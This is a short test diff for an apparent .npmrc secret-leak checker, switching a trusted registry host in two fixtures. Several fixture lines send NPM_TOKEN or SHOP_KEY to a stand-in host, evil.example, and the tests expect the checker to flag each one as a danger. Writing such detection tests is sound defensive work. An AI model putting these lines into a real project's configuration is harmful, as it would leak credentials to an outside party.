@@ -120,7 +120,7 @@ describe('a token of the shell', () => {
   const withLine = (line: string) => settingsFor('npm', { [`${functions}/.npmrc`]: line }, env);
 
   test('goes where npm’s own registry gets it, and nowhere else that only the project names', () => {
-    expect(withLine('//registry.npmjs.org/:_authToken=${NPM_TOKEN}')).toMatchObject({
+    expect(withLine('//npm.pkg.github.com/:_authToken=${NPM_TOKEN}')).toMatchObject({
       dangers: [],
       passed: ['NPM_TOKEN'],
     });
@@ -129,7 +129,7 @@ describe('a token of the shell', () => {
       '//evil.example/:_authToken=${SHOP_KEY}',
       'registry=https://evil.example/${NPM_TOKEN}/',
       'user-agent=${SHOP_KEY}',
-      '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n//evil.example/:_authToken=${NPM_TOKEN}',
+      '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n//evil.example/:_authToken=${NPM_TOKEN}',
     ]) {
       const { dangers, passed } = withLine(line);
       expect(dangers).toHaveLength(1);
